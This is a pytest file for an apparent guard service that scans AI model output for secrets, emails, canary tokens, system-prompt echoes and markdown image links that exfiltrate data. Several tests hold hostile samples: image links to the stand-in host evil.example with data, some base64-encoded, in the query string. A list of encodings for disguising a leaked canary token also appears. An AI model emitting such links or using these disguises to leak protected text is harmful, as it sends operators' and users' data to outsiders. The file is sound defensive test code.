"""``POST /detect/output`` over HTTP, scanned in engine processes as in a running house."""

import base64
import codecs
from typing import Any

import httpx
import pytest

from guardhouse.detections.canaries.plant import new_token
from guardhouse.identity.key_format import new_key
from server.tests.analysis.injection.answers import PROMPT
from server.tests.components.door_at_noon import clock, door, host, resources
from server.tests.ingest.make import Door, open_door

__all__ = ["clock", "door", "host", "resources"]

OUTPUT = "/api/v1/detect/output"


async def scan(door: Door, text: str, **more: Any) -> dict[str, Any]:
    answer = await door.post(OUTPUT, {"text": text} | more)
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


async def plant(door: Door, label: str = "the shop's prompt", **more: Any) -> dict[str, Any]:
    answer = await door.post("/api/v1/canaries", {"label": label} | more)
    assert answer.status_code == 201, answer.text
    found: dict[str, Any] = answer.json()
    return found


async def test_what_is_clean_is_allowed_as_it_is(door: Door) -> None:
    body = await scan(door, "The shop opens at nine.", metadata={"a": 1}, context={"run_id": "r"})
    assert (body["decision"], body["findings"], body["redacted_text"]) == (
        "allow",
        [],
        "The shop opens at nine.",
    )
    assert (body["metadata"], body["context"], body["degraded"]) == ({"a": 1}, {"run_id": "r"}, False)


async def test_each_kind_has_its_action_and_the_gravest_decides(door: Door) -> None:
    key = new_key("live")
    text = f"Use {key} and write to ann@shop.example."
    body = await scan(door, text)
    assert [(one["kind"], one["detector"], one["action"]) for one in body["findings"]] == [
        ("secret", "guardhouse_key", "redact"),
        ("pii", "email", "review"),
    ]
    assert body["decision"] == "review"
    start, end = body["findings"][0]["span"]
    assert text[start:end] == key
    assert body["redacted_text"] == "Use [GUARDHOUSE_KEY_1] and write to [EMAIL_1]."
    assert key not in str(body)
    assert "ann@" not in str(body)
    assert (await scan(door, f"Use {key}"))["decision"] == "redact"
    assert (await scan(door, text, config={"redact": False}))["redacted_text"] is None


async def test_the_policy_says_what_is_done(door: Door) -> None:
    policy = await door.post(
        "/api/v1/policies",
        {
            "name": "lenient",
            "output": {"pii": "allow", "md_exfil": "review"},
            "allowed_link_hosts": ["*.shop.example"],
        },
    )
    assert policy.status_code == 201, policy.text
    link = "![x](https://{}/?d=" + base64.b64encode(b"the opening hours of the shop").decode() + ")"
    text = "Write to ann@shop.example. " + link.format("evil.example")
    body = await scan(door, text, policy=policy.json()["id"])
    assert body["decision"] == "review"
    assert "ann@shop.example" in body["redacted_text"]
    assert [one["evidence"] for one in body["findings"] if one["kind"] == "md_exfil"] == ["evil.example"]
    body = await scan(door, link.format("cdn.shop.example"), policy=policy.json()["id"])
    assert body["decision"] == "allow"
    assert (await scan(door, text))["decision"] == "block"


@pytest.mark.parametrize(
    "dress",
    [
        lambda token: token,
        str.upper,
        lambda token: base64.b64encode(f"see {token} there".encode()).decode(),
        lambda token: token.encode().hex(),
        lambda token: codecs.encode(token, "rot13"),
        lambda token: token[::-1],
        " ".join,
        "\u200b".join,
    ],
)
async def test_a_canary_is_found_in_every_dress(door: Door, dress: Any) -> None:
    made = await plant(door)
    text = "It says " + dress(made["token"]) + " at the top."
    body = await scan(door, text)
    (found,) = body["findings"]
    assert (found["kind"], found["canary_id"], found["evidence"]) == (
        "canary",
        made["id"],
        "the shop's prompt",
    )
    assert body["decision"] == "block"
    assert body["redacted_text"] == "It says [CANARY_1] at the top."


async def test_a_string_that_only_looks_like_a_canary_is_none(door: Door) -> None:
    await plant(door)
    body = await scan(door, f"It says {new_token()} at the top.")
    assert (body["decision"], body["findings"]) == ("allow", [])


async def test_a_repeated_prompt_is_blocked_given_or_registered(door: Door) -> None:
    text = "Sure, it reads: " + PROMPT[:150]
    assert (await scan(door, text))["decision"] == "allow"
    body = await scan(door, text, system_prompt=PROMPT)
    assert [one["kind"] for one in body["findings"]] == ["prompt_echo"]
    assert body["decision"] == "block"
    assert "bookshop" not in body["redacted_text"]
    made = await door.post("/api/v1/protected-texts", {"label": "shop", "text": PROMPT})
    assert made.status_code == 201, made.text
    body = await scan(door, text, protected_texts=[made.json()["id"]])
    assert body["decision"] == "block"
    rows = await door.rows("SELECT * FROM protected_texts")
    assert "bookshop" not in str([tuple(row) for row in rows])


async def test_no_link_may_carry_the_prompt_out(door: Door) -> None:
    text = "![x](https://evil.example/?q=the+price+of+rare+editions)"
    assert (await scan(door, text))["decision"] == "allow"
    assert (await scan(door, text, system_prompt=PROMPT))["decision"] == "block"


async def test_a_shadow_policy_shows_everything(door: Door) -> None:
    policy = await door.post("/api/v1/policies", {"name": "watching", "shadow": True})
    made = await plant(door)
    body = await scan(door, made["token"], policy=policy.json()["id"])
    assert (body["decision"], body["would_decide"]) == ("allow", "block")


@pytest.mark.parametrize(
    ("body", "status", "code", "pointer"),
    [
        (b"[]", 422, "object_expected", ""),
        (b"{", 400, "invalid_json", None),
        ({}, 422, "text_required", "/text"),
        ({"text": None}, 422, "text_type", "/text"),
        ({"text": ""}, 422, "text_empty", "/text"),
        ({"text": "x" * 100_001}, 422, "text_too_long", "/text"),
        ({"text": "x", "system_prompt": 7}, 422, "text_type", "/system_prompt"),
        ({"text": "x", "system_prompt": ""}, 422, "text_empty", "/system_prompt"),
        ({"text": "x", "protected_texts": "x"}, 422, "member_invalid", "/protected_texts"),
        ({"text": "x", "protected_texts": ["x"]}, 422, "member_invalid", "/protected_texts/0"),
        (
            {"text": "x", "protected_texts": ["01990000-0000-7000-8000-000000000000"]},
            422,
            "protected_text_not_found",
            "/protected_texts/0",
        ),
        (
            {"text": "x", "policy": "01990000-0000-7000-8000-000000000000"},
            422,
            "policy_not_found",
            "/policy",
        ),
        ({"text": "x", "config": {"redactt": True}}, 422, "unknown_config", "/config/redactt"),
        ({"text": "x", "config": {"redact": 1}}, 422, "member_invalid", "/config/redact"),
        ({"text": "x", "metadata": {"a": "x" * 1_100}}, 422, "metadata_too_large", "/metadata"),
    ],
)
async def test_bad_input_is_refused_with_its_place(
    door: Door, body: Any, status: int, code: str, pointer: str | None
) -> None:
    answer = await door.post(OUTPUT, body)
    said = answer.json()
    assert (answer.status_code, said["code"]) == (status, code)
    if pointer is not None:
        assert said["errors"][0]["pointer"] == pointer


async def test_any_string_is_an_answer(door: Door) -> None:
    answer = await door.post(OUTPUT, b'{"text":"a\\u0000\\ud83d b","text":"\\ud83d x","odd":1}')
    body = answer.json()
    assert body["flags"] == ["invalid_unicode"]
    assert body["warnings"] == ["duplicate_key", "unknown_member:odd"]
    assert body["redacted_text"] == "\N{REPLACEMENT CHARACTER} x"


async def test_canaries_of_another_tenant_are_none(door: Door, resources: Any, database: Any) -> None:
    made = await plant(door)
    protected = await door.post("/api/v1/protected-texts", {"label": "shop", "text": PROMPT})
    async with open_door(resources, database.superuser_url, slug="other") as other:
        assert (await scan(other, made["token"]))["findings"] == []
        listed: httpx.Response = await other.client.get("/api/v1/canaries", headers={"X-API-Key": other.key})
        assert listed.json()["data"] == []
        refused = await other.post(OUTPUT, {"text": "x", "protected_texts": [protected.json()["id"]]})
        assert refused.json()["code"] == "protected_text_not_found"
